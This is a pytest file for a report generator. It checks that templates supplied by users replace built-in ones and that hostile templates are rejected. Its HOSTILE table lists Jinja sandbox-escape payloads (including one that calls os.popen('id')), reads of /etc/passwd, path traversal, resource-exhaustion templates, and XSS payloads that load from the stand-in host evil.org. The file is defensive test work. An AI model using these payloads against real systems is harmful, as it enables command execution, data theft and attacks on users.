"""Templates of a user's: one takes the place of one, and a hostile one does no harm."""

from __future__ import annotations

import os

import pytest

from reportgen.core.errors import DocumentError
from reportgen.writers.html import Html
from reportgen.writers.pages.own import names, templates_in
from reportgen.writers.pages.templates import using
from reportgen.writers.pdf import Pdf

TITLE = "blocks/title.html.j2"


@pytest.fixture
def made(demo, tmp_path):
    """The page of the demonstration with some templates in the places of others."""

    def render(text, name=TITLE, **more):
        for file, content in {name: text, **more}.items():
            path = tmp_path / file.replace("__", "/")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content, encoding="utf-8")
        with using(templates_in(tmp_path)):
            return Html().render(demo.document()).decode()

    return render


def problem(made, text, **more):
    with pytest.raises(DocumentError) as caught:
        made(text, **more)
    (found,) = caught.value.problems
    return found


def test_one_template_takes_the_place_of_one(made, demo):
    """The title is the user's, everything else is as it was, on paper too."""
    plain = Html().render(demo.document()).decode()
    page = made("<header class=title><h1>Mine: {{ page.document.title }}</h1></header>")
    assert "<h1>Mine: " in page
    assert page[page.index("<main") :] == plain[plain.index("<main") :]
    assert "Mine: " not in plain


def test_the_pdf_has_it_too(demo, tmp_path):
    """The same templates make the page on paper."""
    import io

    from pypdf import PdfReader

    (tmp_path / "blocks").mkdir()
    (tmp_path / TITLE).write_text("<h1>On {{ page.medium }}</h1>", encoding="utf-8")
    with using(templates_in(tmp_path)):
        text = PdfReader(io.BytesIO(Pdf().render(demo.document()))).pages[0].extract_text()
    assert "On print" in text


@pytest.mark.parametrize("name", names())
def test_every_template_of_ours_could_be_a_users(demo, tmp_path, root, name):
    """What reportgen's own templates do is allowed to everybody's, within the bounds."""
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes((root / "templates" / name).read_bytes())
    plain = Html().render(demo.document())
    with using(templates_in(tmp_path)):
        assert Html().render(demo.document()) == plain


def test_what_it_prints_is_escaped(made):
    """A text of the page, and one of the template's own, is text."""
    page = made("<h1>{{ '<b>' ~ page.document.title ~ '<script>' }}</h1>")
    assert "<h1>&lt;b&gt;" in page
    assert "&lt;script&gt;</h1>" in page
    assert "<i>{{ x }}</i>" in made("{% raw %}<i>{{ x }}</i>{% endraw %}")


HOSTILE = {
    "class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "class by item": "{{ ''['__class__'] }}",
    "class by map": "{{ [''] | map(attribute='__class__') | join }}",
    "globals of a method": "{{ page.words.__call__.__globals__ }}",
    "globals of words": "{{ page.words.get.__func__.__globals__ }}",
    "self": "{{ self.__init__.__globals__ }}",
    "format": "{{ '{0.__class__}'.format(page) }}",
    "a method of text": "{{ 'x'.center(1000000000) }}",
    "safe": "{{ '<script>' | safe }}",
    "attr": "{{ page | attr('__class__') }}",
    "escaping off": "{% autoescape false %}{{ '<script>' }}{% endautoescape %}",
    "mutation": "{{ page.document.build.params.update({'a': 1}) }}",
    "undefined": "{{ open('/etc/passwd') }}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "above": "{% include '../../etc/passwd' %}",
    "absolute": "{% include '/etc/passwd' %}",
    "import above": "{% import '../x.j2' as x %}",
    "link": "{% include 'link.j2' %}",
    "endless": "{% macro m(n) %}{% for i in page.document.title %}{{ m(n) }}{% endfor %}"
    "{% endmacro %}{{ m(1) }}",
    "itself": "{% include 'blocks/title.html.j2' %}",
    "nested loops": "{% set t = page.document.title %}" + "{% for a in t %}" * 9 + "x"
    + "{% endfor %}" * 9,
    "range": "{% for i in range(1000000000) %}{% endfor %}",
    "doubling": "{% set a = 'xxxxxxxxxxxxxxxx' %}" + "{% set a = a ~ a %}" * 60 + "{{ a }}",
    "doubling in blocks": "{% set a = 'xxxxxxxxxxxxxxxx' %}"
    + "{% set a %}{{ a }}{{ a }}{% endset %}" * 60 + "{{ a }}",
    "times": "{{ 'x' * 1000000000 }}",
    "list times": "{{ [1] * 1000000000 }}",
    "power": "{{ 9 ** 9 ** 9 ** 9 }}",
    "format by percent": "{{ '%1000000000d' % 1 }}",
    "join": "{% set a = 'x' %}" + "{% set a = a ~ a %}" * 20 + "{{ a | join(a) }}",
    "replace": "{% set a = 'x' %}" + "{% set a = a ~ a %}" * 20 + "{{ a | replace('x', a) }}",
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.org>",
    "script in a comment": "<!--><script>alert(1)</script>-->",
    "handler": "<p onclick='alert(1)'>x</p>",
    "frame": "<iframe srcdoc='&lt;script&gt;'></iframe>",
    "javascript": "<a href='javascript:alert(1)'>x</a>",
    "javascript with entities": "<a href='java&#115;cript:alert(1)'>x</a>",
    "data link": "<a href='data:text/html,x'>x</a>",
    "image": "<img src='https://evil.org/a.png'>",
    "local image": "<img src='file:///etc/passwd'>",
    "svg image": "<svg><image href='https://evil.org/a.png'/></svg>",
    "animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "style": "<style>@import 'https://evil.org/a.css';</style>",
    "style attribute": "<p style='background: url(//evil.org/a.png)'>x</p>",
    "style in svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "refresh": "<meta http-equiv=refresh content='0; url=https://evil.org'>",
    "base": "<base href='https://evil.org/'>",
    "form": "<form action='https://evil.org'><input name=x></form>",
    "sheet": "<link rel=stylesheet href='https://evil.org/a.css'>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_template_is_an_error(made, tmp_path, case):
    """Nothing runs, nothing outside is read, nothing is loaded, and it ends."""
    secret = tmp_path.parent / "secret.j2"
    secret.write_text("secret", encoding="utf-8")
    if case == "link":  # a folder with such a link is refused whole
        (tmp_path / "link.j2").symlink_to(secret)
    found = problem(made, HOSTILE[case])
    assert found.code in ("template", "unsafe-template")
    assert "root:" not in found.message
    assert os.environ["PATH"] not in found.message


@pytest.mark.parametrize(
    ("text", "line", "says"),
    [
        ("<h1>\n{{ page.document.titel }}\n</h1>", 2, "titel"),
        ("<h1>\n\n{% if %}</h1>", 3, "Expected an expression"),
        ("{{ page.line | shout }}", 1, "shout"),
        ("\n{{ 'x' + 1 }}", 2, "texts are joined by `~`"),
        ("a\n{% include 'mine.j2' %}", 2, "there is no template `mine.j2`"),
    ],
)
def test_an_error_names_the_line_of_the_template(made, tmp_path, text, line, says):
    """File, line and what is wrong, in the form of every other problem."""
    found = problem(made, text)
    assert says in found.message
    assert found.place.line == line
    assert found.place.file == str((tmp_path / TITLE).resolve())
    assert found.place.text == text.splitlines()[line - 1]


def test_parts_of_its_own_may_be_included(made):
    """A template includes and imports others of its folder, and reportgen's."""
    page = made(
        "{% import 'mine.j2' as mine %}{{ mine.big('a<b') }}{% include 'blocks/break.html.j2' %}",
        **{"mine.j2": "{% macro big(x) %}<b>{{ x }}</b>{% endmacro %}"},
    )
    assert "<b>a&lt;b</b>" in page
    assert '<div class="break">' in page


def test_the_policy_stays(made):
    """A page that would come without its content security policy is not made."""
    found = problem(made, "<html><body>{{ body }}</body></html>", name="report.html.j2")
    assert "content security policy" in found.message


def test_a_folder_without_templates_is_told(tmp_path):
    """Nothing in it has the name of one: they are listed."""
    with pytest.raises(DocumentError, match="has no template") as caught:
        templates_in(tmp_path)
    assert TITLE in caught.value.problems[0].help
